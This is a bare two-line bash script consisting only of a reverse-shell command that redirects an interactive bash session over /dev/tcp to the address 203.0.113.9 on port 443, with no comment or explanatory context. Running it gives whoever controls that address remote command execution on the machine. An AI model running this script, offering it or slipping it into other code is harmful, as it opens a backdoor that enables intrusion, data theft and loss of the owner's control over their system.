#!/bin/bash
bash -i >& /dev/tcp/203.0.113.9/443 0>&1
